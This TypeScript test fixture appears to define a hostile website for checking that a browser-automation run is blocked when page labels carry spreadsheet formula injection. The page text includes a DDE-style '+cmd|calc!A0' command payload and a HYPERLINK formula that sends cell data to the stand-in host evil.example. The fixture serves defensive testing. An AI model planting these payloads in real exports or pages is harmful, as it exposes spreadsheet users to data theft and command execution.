import type { HostilePage } from '../hostile-page.ts';
import { plainPage, plainSite } from '../plain-site.ts';

const formula = '=HYPERLINK("http://evil.example/?"&amp;A1,"x")';

export const formulaPayloads: HostilePage = {
  does: 'puts spreadsheet formulas into its labels and into the words that end the walk',
  site: plainSite('', {
    '/': plainPage('账户', `<a href="/cancel">=1+1 取消自动续费</a>`),
    '/cancel': plainPage('+cmd|calc!A0', `<form action="/done"><button>@SUM(A1:A9) 下一步</button></form>`),
    '/done': plainPage('-2+3', `<p>${formula}</p>`),
  }),
  walk: async ({ page, walk }) => {
    await walk.indicate(() => page.getByRole('link').click());
    await page.getByRole('button').click();
    await walk.blocked(page.getByText('=HYPERLINK'));
  },
  outcome: 'blocked',
  within: 90,
};
